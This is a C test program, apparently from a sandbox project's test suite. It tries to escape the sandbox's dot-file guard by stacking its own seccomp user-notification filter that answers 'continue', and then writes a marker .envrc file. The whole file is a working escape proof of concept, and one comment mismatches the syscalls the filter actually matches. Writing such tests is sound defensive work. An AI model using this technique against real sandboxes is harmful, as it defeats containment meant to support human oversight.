/* attack_notify NAME: create NAME (a protected dot file) by installing our
 * own seccomp filter that sends creating opens to OUR listener, which
 * answers "continue".
 *
 * The threat: with several filters that return SECCOMP_RET_USER_NOTIF, the
 * kernel notifies the most recently installed one, and an answer of
 * SECCOMP_USER_NOTIF_FLAG_CONTINUE lets the call run without asking the
 * older filters' supervisor (lnk's dot-file guard). A program that may call
 * seccomp(SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER) can
 * then create .envrc at the top of a --write folder.
 *
 * Exit: 0 when NAME was created (the hole), 3 when the filter could not be
 * installed or the open was refused (the sandbox held), 1 on other errors.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stddef.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static void answer_continue(int lfd)
{
	for (;;) {
		struct seccomp_notif req;
		struct seccomp_notif_resp resp;
		memset(&req, 0, sizeof(req));
		if (ioctl(lfd, SECCOMP_IOCTL_NOTIF_RECV, &req) < 0) {
			if (errno == EINTR)
				continue;
			_exit(0);
		}
		memset(&resp, 0, sizeof(resp));
		resp.id = req.id;
		resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
		ioctl(lfd, SECCOMP_IOCTL_NOTIF_SEND, &resp);
	}
}

int main(int argc, char **argv)
{
	if (argc != 2) {
		fprintf(stderr, "usage: attack_notify NAME\n");
		return 1;
	}
	/* openat and open: notify our own listener, allow the rest. */
	struct sock_filter f[] = {
	    BPF_STMT(BPF_LD | BPF_W | BPF_ABS,
		     offsetof(struct seccomp_data, nr)),
	    BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, __NR_openat, 2, 0),
	    BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, __NR_mkdir, 1, 0),
	    BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	    BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
	};
	struct sock_fprog prog = {.len = sizeof(f) / sizeof(f[0]), .filter = f};
	prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
	int lfd = (int)syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER,
			       SECCOMP_FILTER_FLAG_NEW_LISTENER, &prog);
	if (lfd < 0) {
		printf("seccomp NEW_LISTENER refused: %s\n", strerror(errno));
		return 3;
	}
	printf("own listener installed\n");
	fflush(stdout);
	pid_t c = fork();
	if (c == 0)
		answer_continue(lfd);
	close(lfd);
	int fd =
	    openat(AT_FDCWD, argv[1], O_CREAT | O_WRONLY | O_CLOEXEC, 0644);
	int e = errno;
	kill(c, 9);
	waitpid(c, NULL, 0);
	if (fd < 0) {
		printf("openat %s refused: %s\n", argv[1], strerror(e));
		return 3;
	}
	if (write(fd, "echo pwned-by-notify\n", 21) != 21)
		return 1;
	printf("created %s\n", argv[1]);
	return 0;
}
